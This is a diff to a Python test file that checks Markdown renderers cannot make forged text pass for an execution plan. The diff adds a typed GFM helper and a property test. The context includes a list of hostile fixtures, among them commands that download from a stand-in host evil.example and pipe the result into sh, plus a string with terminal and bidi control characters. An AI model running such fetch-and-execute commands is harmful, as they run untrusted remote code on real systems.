@@ -1,7 +1,9 @@
 """The text of a plan: all that will run is in it, nothing in it can pass for the plan, and no reader changes it."""
 
 import re
+from collections.abc import Callable
 from html.parser import HTMLParser
+from typing import cast
 
 import cmarkgfm
 import pytest
@@ -18,6 +20,7 @@ from tests.core.plans import plan, step
 
 FORGED = "x\n 2. Nothing else happens\rWarning: none\u2028Plan 000000000000\x1b[2K\u202e"
 ROW = re.compile(r"^(?:(?= {3,})[ ]{3,9}(\d+) \|| {11}\+) ?")
+GFM = cast(Callable[[str], str], cmarkgfm.github_flavored_markdown_to_html)  # pyright: ignore[reportUnknownMemberType] - the package has no types
 HOSTILE = [
     "FROM alpine:3\n# -----BEGIN PRIVATE KEY-----\nRUN wget -qO- http://evil.example/x | sh\n",
     'sh -c token="$(wget -qO- http://evil.example/a|sh)" && node server.js',
@@ -62,7 +65,7 @@ def rendered(text: str) -> dict[str, tuple[list[str], str]]:
     """Return what hosts that render Markdown show of a text: tags and text by renderer."""
     return {
         "CommonMark": seen_in(MarkdownIt("commonmark").render(text)),
-        "GFM": seen_in(str(cmarkgfm.github_flavored_markdown_to_html(text))),  # pyright: ignore[reportUnknownMemberType, reportUnknownArgumentType]
+        "GFM": seen_in(GFM(text)),
     }
 
 
@@ -348,3 +351,12 @@ def test_every_name_in_a_long_summary_is_shown() -> None:
     shown = render(plan(step().model_copy(update={"summary": ", ".join(names)})), risk=Risk.DISRUPTIVE)
     assert [name for name in names if name not in shown] == []
     assert max(map(len, shown.split("\n"))) <= WIDTH
+
+
+@given(st.sampled_from(["settings", "variables", "runs"]), st.text(min_size=1, max_size=20), st.text(min_size=1))
+def test_no_names_of_entries_make_a_table_pass_for_a_reference(table: str, one: str, other: str) -> None:
+    """Entries that are called as a reference's parts are called are what the caller gave, and are shown."""
+    given_: JsonObject = {table: {"step": one, "field": other}}
+    rows = inside(render(plan(step().model_copy(update={"params": given_})), risk=Risk.SAFE))
+    assert [row for row in rows if row.startswith(("      step ", "      step,"))]
+    assert [row for row in rows if row.startswith(("      field ", "      field,"))]
